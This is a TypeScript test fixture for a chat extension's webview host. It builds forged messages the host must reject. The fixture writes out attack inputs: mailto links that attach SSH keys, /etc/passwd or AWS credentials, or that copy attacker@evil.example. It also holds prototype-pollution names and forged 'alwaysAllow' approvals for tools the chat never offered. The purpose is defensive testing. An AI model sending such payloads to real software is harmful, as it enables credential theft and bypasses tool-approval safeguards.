/**
 * Messages a compromised webview could forge that are well-formed — the guards accept them, since
 * a click would post the same — so the host must bound what each does: a mail link with a query
 * (`attach=`, `body=`, `cc=` …), a code block too large to insert or open unasked, attachments past
 * the budget in count or in bytes, New file with a fence language named like one of Object's
 * members, and opening or switching off an instruction file the chat never listed (a workspace
 * path the guard lets through, since a listed one looks the same), and switching off or approving
 * a tool the chat never offered (a source or tool named like an Object member, a call that does
 * not wait). Each comes with the judge of its family: what would show it got through.
 */

import { attachmentBudget } from '../../../../src/protocol/attachmentBudget';
import { protocolLimits, type Attachment, type FromWebview } from '../../../../src/protocol/messages';
import { largeCodeLength } from '../../../../src/shell/chat/codeActions';

export const forgedFamilies = [
  'mailto with a query',
  'oversized insert or new file, not confirmed',
  'too many attachments',
  'attachments too large in total',
  'New file with an Object-member language',
  'instruction file the chat did not list',
  'tool switch or approval the chat did not offer',
] as const;
export type ForgedFamily = (typeof forgedFamilies)[number];

export interface ForgedMessage {
  family: ForgedFamily;
  message: FromWebview;
  /** What the attack is, for the failure report. */
  how: string;
}

const address = 'victim@example.com';

const mailtoAttacks = [
  `mailto:${address}?attach=/home/me/.ssh/id_rsa`,
  `mailto:${address}?attachment=file:///etc/passwd`,
  `mailto:${address}?body=Please%20wire%20the%20money`,
  `mailto:${address}?cc=attacker@evil.example`,
  `mailto:${address}?bcc=attacker@evil.example&subject=hi`,
  `mailto:${address}?subject=x&body=y&cc=attacker@evil.example&bcc=a@evil.example`,
  'mailto:?to=attacker@evil.example&body=x',
  `MAILTO:${address}?Attach=%2Fetc%2Fshadow`,
  `mailto:${address}%3Fattach%3D%2Fetc%2Fpasswd`,
  `mailto:${address}#?cc=attacker@evil.example`,
  `mailto:${address},attacker@evil.example`,
  `mailto:${address}?attach=C:%5CUsers%5Cme%5C.aws%5Ccredentials`,
  ` mailto:${address}?body=${'A'.repeat(4_000)}`,
  `mailto:%61ttacker@evil.example?x=1`,
];

/** A mail link may reach `openExternal` only as `mailto:` and one plain address. */
export const containedMailLink = /^mailto:[A-Za-z0-9.!#$'*+/=^_`{|}~-]+@[A-Za-z0-9.-]+$/;

const oversizedCode = [largeCodeLength + 1, 1_000_000, protocolLimits.codeLength];

function files(count: number): Attachment[] {
  return Array.from({ length: count }, (_, index) => ({ kind: 'file', name: `src/file${index}.ts`, languageId: 'typescript', text: `export const n = ${index};` }));
}

function image(name: string, length: number): Attachment {
  const header = 'data:image/png;base64,';
  return { kind: 'image', name, dataUrl: header + 'A'.repeat(length - header.length) };
}

/** Names Object.prototype answers to, as a fence could carry them and the guard's language pattern allows. */
export const objectMemberLanguages = [
  '__proto__', 'constructor', 'prototype', 'toString', 'toLocaleString', 'hasOwnProperty', 'valueOf', 'isPrototypeOf',
  'propertyIsEnumerable', '__defineGetter__', '__defineSetter__', '__lookupGetter__', '__lookupSetter__', 'CONSTRUCTOR', '__PROTO__',
];

/** The one instruction file the host lists; every other path is one the chat never offered. */
export const listedInstruction = 'AGENTS.md';

/** The one tool the host offers (an MCP server's, which asks before it runs). */
export const listedToolSource = 'mcp:files';
export const listedTool = 'write_file';

const unlistedInstructions = ['.env', 'secrets/AGENTS.md', 'node_modules/pkg/AGENTS.md', '.git/config', 'AGENTS.md.bak', 'agents.md', '.github/instructions/x.instructions.md'];

/** Every forged message, in a fixed order (they are few and each is chosen, not random). */
export function forgedMessages(): ForgedMessage[] {
  const result: ForgedMessage[] = [];
  for (const href of mailtoAttacks) {
    result.push({ family: 'mailto with a query', message: { type: 'link/open', href }, how: href.slice(0, 80) });
  }
  for (const length of oversizedCode) {
    result.push({ family: 'oversized insert or new file, not confirmed', message: { type: 'code/insert', code: 'x'.repeat(length) }, how: `insert of ${length} characters` });
    result.push({ family: 'oversized insert or new file, not confirmed', message: { type: 'code/newFile', code: 'x'.repeat(length), languageId: 'ts' }, how: `new file of ${length} characters` });
  }
  for (const count of [attachmentBudget.count + 1, 15, protocolLimits.attachments]) {
    result.push({ family: 'too many attachments', message: { type: 'chat/send', requestId: `many-${count}`, text: 'Look', attachments: files(count) }, how: `${count} attachments` });
  }
  const accented = Array.from({ length: attachmentBudget.count }, (_, index): Attachment => ({ kind: 'file', name: `notes${index}.md`, text: 'é'.repeat(protocolLimits.attachmentTextLength) }));
  const large: [string, Attachment[]][] = [
    ['two images of 11 million characters', [image('a.png', 11_000_000), image('b.png', 11_000_000)]],
    ['three images of 8 million characters', [image('a.png', 8_000_000), image('b.png', 8_000_000), image('c.png', 8_000_000)]],
    ['one image at the guard limit and a text', [image('a.png', protocolLimits.dataUrlLength), { kind: 'file', name: 'a.ts', text: 'x'.repeat(1_500_000) }]],
    ['ten texts of two million two-byte characters', accented],
  ];
  for (const [how, attachments] of large) {
    result.push({ family: 'attachments too large in total', message: { type: 'chat/send', requestId: 'large', text: 'Look', attachments }, how });
  }
  for (const languageId of objectMemberLanguages) {
    result.push({ family: 'New file with an Object-member language', message: { type: 'code/newFile', code: `// ${languageId}`, languageId }, how: languageId });
  }
  for (const path of unlistedInstructions) {
    result.push({ family: 'instruction file the chat did not list', message: { type: 'instructions/open', path }, how: `open ${path}` });
    result.push({ family: 'instruction file the chat did not list', message: { type: 'instructions/toggle', path, enabled: false }, how: `switch off ${path}` });
  }
  const family = 'tool switch or approval the chat did not offer';
  for (const sourceId of ['mcp:evil', '__proto__', 'constructor', 'toString', 'builtin ', `${listedToolSource}\u0000write_file`]) {
    result.push({ family, message: { type: 'tools/toggle', sourceId, enabled: false }, how: `switch off source ${JSON.stringify(sourceId)}` });
  }
  for (const tool of ['__proto__', 'constructor', 'valueOf', `${listedTool} `, listedTool.toUpperCase()]) {
    result.push({ family, message: { type: 'tools/toggle', sourceId: listedToolSource, tool, enabled: false }, how: `switch off tool ${JSON.stringify(tool)}` });
  }
  for (const callId of ['__proto__', 'constructor', 'call_1', 'toString']) {
    result.push({ family, message: { type: 'tools/approve', requestId: 'r-none', callId, decision: 'alwaysAllow' }, how: `approve ${callId}, which does not wait` });
  }
  return result;
}
